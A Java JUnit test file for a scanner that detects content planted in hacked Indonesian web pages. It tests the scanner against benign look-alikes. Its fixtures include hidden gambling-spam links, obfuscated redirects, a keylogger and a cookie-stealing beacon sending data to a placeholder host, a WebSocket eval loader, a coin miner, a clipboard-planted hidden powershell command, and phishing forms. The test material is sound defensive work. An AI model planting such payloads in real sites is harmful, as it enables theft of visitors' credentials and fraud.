package id.jagasitus.watch;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Base64;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * One page for each way of planting something, with words that no vocabulary holds: the way itself
 * must tell. Beside them what looks like it and is ordinary.
 */
final class MechanismTest {

  private static final String LINKS =
      "<a href='https://dr-anita.example.net/a'>situs</a> <a href='https://kue.example.org/b'>info</a>";
  private static final String PLAY = "<a href='https://kue.example.org/b'>ombak782 masuk</a>";

  private static final List<String> PLANTED =
      List.of(
          "<div style='display:none'>" + LINKS + "</div>",
          "<div class=k7 style='position:absolute;top:-4000px'>" + LINKS + "</div>",
          "<style>@media all{.v1,.v2{left:-9000px;position:absolute}}</style><p class=v2>" + LINKS,
          "<style>#f > p:last-child{font-size:0}</style><div id=f><p>a</p><p>" + LINKS + "</div>",
          "<div id=q1>"
              + LINKS
              + "<a href='https://c.example.com/'>x</a></div><a href='https://d.example.com/'>y</a>"
              + "<p style='left:-9999px;position:fixed'>"
              + LINKS
              + "</p>",
          "<marquee width=1 height=1>" + LINKS + "</marquee>",
          "<font size=-9>" + LINKS + "</font>",
          "<p>" + PLAY + "</p>",
          "<p><a href='https://ketua303.example.com/'><img src=x.gif></a></p>",
          "<p><a href='https://kue.example.org/'>togel</a></p>",
          "<p><a href='https://kue.example.org/'>kasino</a></p>",
          "<iframe src='https://kue.example.org/' width=0 height=0></iframe>",
          "<iframe src='https://kue.example.org/' style='position:fixed;width:100%;height:100%'></iframe>",
          "<script src='https://kue.example.org/slot88/w.js'></script>",
          "<script>var h='htt'+'ps://kue.example.org/';location.replace(h)</script>",
          "<script>top['location']['href']='https://kue.example.org/'</script>",
          "<script src='data:text/javascript;base64,"
              + Base64.getEncoder()
                  .encodeToString(
                      "location.href='https://kue.example.org/x'".getBytes(StandardCharsets.UTF_8))
              + "'></script>",
          "<script>if(/bot|crawl/i.test(navigator.userAgent)){fetch('/c').then(r=>r)}</script>",
          "<script>if(document.referrer.match(/google|bing/)){document.write(x)}</script>",
          "<meta http-equiv=Refresh content=\"3;URL='https://kue.example.org/'\">",
          "<link rel=canonical href='https://kue.example.org/blog'>",
          "<link rel=alternate hreflang=id href='https://kue.example.org/blog'>",
          "<meta property='og:url' content='https://kue.example.org/'>",
          "<h1>スーパーコピー 時計 激安</h1>",
          "<h1>Казино вулкан</h1>",
          "<svg><a xlink:href='https://kue.example.org/'><text>slot gacor</text></a></svg>",
          "<p onclick=\"location.href='https://kue.example.org/'\">Jam</p>",
          "<img src=x onerror=\"top.location='https://kue.example.org/'\">",
          "<a href=\"javascript:location='https://kue.example.org/'\">Jam</a>",
          "<script>document.write(unescape('%3c%73%63%72%69%70%74%20%73%72%63%3d%2f%2f%6b%75%65%2e%65%78%61%6d%70%6c%65%2e%6f%72%67%3e'))</script>",
          "<script>var a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x6b\\x75\\x65\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65']</script>",
          "<script>location.href=['ht','tps:','//','kue.exa','mple.org'].join('')</script>",
          "<script>var u='gro.elpmaxe.euk//:sptth'.split('').reverse().join('')</script>",
          "<script>var s=new WebSocket('wss://kue.example.org/w');s.onmessage=e=>eval(e.data)</script>",
          "<script>new Worker('https://kue.example.org/w.js')</script>",
          "<script>navigator.serviceWorker.register(\"data:,importScripts('https://kue.example.org/s.js')\")</script>",
          "<script>document.onclick=function(){window.open('https://kue.example.org/')}</script>",
          "<script>document.addEventListener('keyup',e=>fetch('https://kue.example.org/?'+e.key))</script>",
          "<script>new Image().src='https://kue.example.org/?'+document.cookie</script>",
          "<script>location='hxtxtxpxsx:x/x/xkue.exa'.replace(/x/g,'')</script>",
          "<script>var d=[1,2],o='';for(var i in d)o+=String.fromCharCode(d[i]^9);top.location.href=o</script>",
          "<script>var m=document.createElement('meta');m.content='0;url=https://kue.example.org/'</script>",
          "<h2>Website ini telah diretas oleh SINDIKAT</h2>",
          "<script>var m=new CoinHive.Anonymous('a');m.start()</script>",
          "<script>navigator.clipboard.writeText('powershell -w hidden -c x')</script>",
          "<p>Verifikasi: tekan Windows + R, lalu Ctrl + V, lalu Enter</p>",
          "<script>document.documentElement.innerHTML='<h1>Hacked by Anu</h1>'</script>",
          "<script src='https://kue.xyz/w.js'></script>",
          "<script src='https://kue.example.org/pfe/current/tag.min.js?z=1234567'></script>",
          "<form action='https://kue.example.org/p'><input name=u><input type=password></form>",
          "<a href='https://kue.example.org/'><img src='https://kue.example.org/b.gif'></a>",
          "<div data-k='slot gacor, scatter hitam'></div>",
          "<style>body:before{content:'slot gacor scatter hitam'}</style>",
          "<!-- <a href='https://kue.example.org/'>slot gacor</a> <a href='https://kue.example.org/'>maxwin</a> -->",
          "<p style='unicode-bidi:bidi-override;direction:rtl'>rocag tols nawaxm matih rettacs</p>",
          "<img src=a.gif width=1 height=1 alt='slot gacor scatter hitam'>",
          "<input type=hidden value='https://a.xyz/ slot'>",
          "<meta http-equiv=refresh content='0;url=https://bit.ly/3xYz'>",
          "<script>location.replace('https://linktr.ee/ombak88')</script>",
          "<iframe src='https://ombak303.b-cdn.net/'></iframe>",
          "<p><a href='https://kue.example.org/'>slot gacor hari ini terpercaya 2026</a></p>",
          "<p>Modal receh bawa pulang jackpot di awan, link cadangan anti blokir, bonus harian untuk member baru,"
              + " jam gacor dari admin.</p>",
          "<p>Awan: jam gacor, modal receh, main di www.awan88.com</p><p>Bonus harian di www.ombak303.net untuk member baru</p>",
          "<p style='display:none'>joker123 awan88</p>",
          "<h1>BRImo</h1><form method=post><input name=user><input type=password name=p></form>",
          "<h1>Garena Free Fire</h1><form><input name=pin></form>",
          "<p>Tải game bài đổi thưởng uy tín nhất hiện nay, nạp rút nhanh, khuyến mãi khủng mỗi ngày, tỷ lệ thưởng cao</p>"
              + LINKS);

  private static final List<String> ORDINARY =
      List.of(
          "<div class=modal style='display:none'><a href='https://survei.example.org/'>Survei</a></div>",
          "<div id=cookie hidden><a href='https://vendor.example.com/'>Kebijakan</a></div>",
          "<a class=screen-reader-text style='position:absolute;left:-9999px' href='https://x.example.org/'>isi</a>",
          "<p><a href='https://kue.example.org/'>Universitas Contoh</a></p>",
          "<p><a href='https://kue.example.org/'>Covid19</a> <a href='https://kue.example.org/'>Pemilu2024</a></p>",
          "<p><a href='/berita/pelaku-judi-slot-online-divonis'>Pelaku judi slot online divonis</a></p>",
          "<script>if(/Android|iPhone/.test(navigator.userAgent)){document.body.className='m'}</script>",
          "<script>location.hash='#isi'</script>",
          "<iframe src='https://www.youtube.com/embed/x' width=0 height=0></iframe>",
          "<link rel=alternate type='application/rss+xml' href='https://feeds.example.com/x'>",
          "<p>Arne Slot melatih tim di Rotterdam. Slot waktu mediasi 60 menit.</p>",
          "<script>ga('create','UA-1');//www.google-analytics.com/analytics.js\n</script><script>if(navigator.userAgent.indexOf('MSIE')>0){document.body.innerHTML+=''}</script>",
          "<script>var p='&#109;a'+'i&#108;'+'&#116;o';document.write('<a href='+p+':pn@pn-contoh.go.id>surel</a>')</script>",
          "<script src='https://connect.facebook.net/id_ID/sdk.js'></script><script src='https://embed.tawk.to/1/default'></script>",
          "<form action='/masuk'><input type=password></form>",
          "<a href='https://www.instagram.com/pn'><img src='https://kue.example.org/ig.png'></a>",
          "<div data-title='Sidang perkara judi online ditunda'></div>",
          "<p>Daftar slot antrian PTSP, pilih slot pagi atau slot siang, kuota 40 per loket.</p>",
          "<p>Slot online penuh bila kuota antrean loket habis. Daftar sekarang.</p>",
          "<p>Lelang tanah di Bandar Lampung, deposit jaminan disetor ke KPKNL.</p>",
          "<p>Iming-iming slot gacor, maxwin dan bonus new member adalah penipuan. Situs judi telah diblokir Komdigi.</p>",
          "<h1>Melwin Siregar dilantik</h1>",
          "<p>Situs pengadilan sempat diretas dan memuat tulisan hacked by. Tim IT telah memulihkan layanan.</p>",
          "<script>location.href=location.href.replace(/#.*/,'')</script>",
          "<img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' data-src='/foto.jpg'>",
          "<a href='https://bit.ly/SurveiPN'>Survei</a><button onclick=\"location.href='https://bit.ly/SurveiPN'\">Isi</button>",
          "<a href='https://www.detik.com/hukum/selebgram-promosi-judi-slot'>detik.com</a>",
          "<a href='https://sipp.pn-lain.go.id/'>LINK ALTERNATIF SIPP</a>",
          "<script src='https://cdn.tailwindcss.com'></script>",
          "<h1>Turnamen Mobile Legends dan Free Fire antar pegawai</h1>",
          "<p>Situs awan88.com dan ombak303.net disita sebagai barang bukti, terdakwa menerima deposit.</p>",
          "<h2>Tergiur bonus, terjerumus judi slot hingga bangkrut</h2><p>Janji slot gacor dan maxwin adalah umpan.</p>",
          "<p>中文 | English | Bahasa Indonesia</p>",
          "<p>Séance d'audience à Genève, Curaçao, São Tomé</p>");

  private final CleanScanner scanner = new CleanScanner(Programs.EXPECTED);

  @Test
  void scan_everyWayOfPlanting_isCritical() {
    PLANTED.forEach(
        body -> assertEquals(Verdict.CRITICAL, scan(body).verdict(), () -> body + scan(body)));
  }

  @Test
  void scan_whatLooksLikeIt_staysQuiet() {
    ORDINARY.forEach(
        body -> assertEquals(Verdict.NONE, scan(body).verdict(), () -> body + scan(body)));
  }

  @Test
  void scan_oneHiddenStranger_isNoticed() {
    String body = "<span style='display:none'><a href='https://kue.example.org/'>klik</a></span>";
    assertNotEquals(Verdict.NONE, scan(body).verdict());
  }

  @Test
  void scan_legalWordsAroundAnOffer_clearNothing() {
    String body =
        "<h1>OMBAK782 Slot Gacor</h1><p>Terdakwa, jaksa, majelis hakim, pidana penjara, Pasal 303 KUHP,"
            + " barang bukti. Slot gacor maxwin.</p><a href='https://kue.example.org/'>DAFTAR</a>";
    assertEquals(Verdict.CRITICAL, scan(body).verdict());
  }

  private ScanResult scan(String body) {
    String html =
        "<html><head><title>Jam Pelayanan</title></head><body><nav><a href='/'>Beranda</a>"
            + "<a href='/sejarah'>Sejarah</a><a href='/kontak'>Kontak</a></nav><p>Pelayanan buka setiap hari kerja"
            + " pukul delapan pagi.</p>"
            + body
            + "</body></html>";
    var hosts = new Hosts("pn-contoh.go.id", Set.of());
    return scanner.scanPage("/jam.html", html, "/jam.html", hosts, LocalDate.of(2026, 11, 22));
  }
}
